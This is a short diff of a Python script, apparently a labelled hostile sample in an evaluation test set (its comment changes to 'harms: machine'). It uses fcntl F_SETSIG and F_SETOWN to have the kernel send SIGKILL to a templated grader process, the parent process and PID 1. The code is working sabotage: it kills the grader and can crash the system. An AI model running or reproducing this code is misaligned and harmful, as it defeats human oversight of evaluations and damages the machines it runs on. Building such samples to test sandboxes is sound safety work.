@@ -1,10 +1,10 @@
 """Lets the kernel send SIGKILL to the grader when a pipe becomes readable."""
-# stock: not run
+# harms: machine
 
 import fcntl
 import os
 
-for number in (int("@GRADER@"), os.getppid(), 1):
+for number in (os.getppid(), int("@GRADER@"), 1):
     reader, writer = os.pipe()
     fcntl.fcntl(reader, 10, 9)  # F_SETSIG
     fcntl.fcntl(reader, fcntl.F_SETOWN, number)
